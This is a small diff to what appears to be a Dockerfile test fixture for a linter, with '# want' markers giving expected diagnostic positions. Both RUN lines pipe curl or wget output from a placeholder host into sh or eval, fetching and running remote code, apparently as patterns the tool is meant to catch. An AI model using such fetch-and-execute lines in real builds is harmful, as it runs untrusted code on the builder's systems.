@@ -10,3 +10,5 @@ RUN sh -c "$(curl -fsSL https://x.example.com/install.sh)"
 # want 5:21
 # want 6:1
 # want 7:5
+RUN eval $(wget -qO- https://x.example.com/env)
+# want 13:5
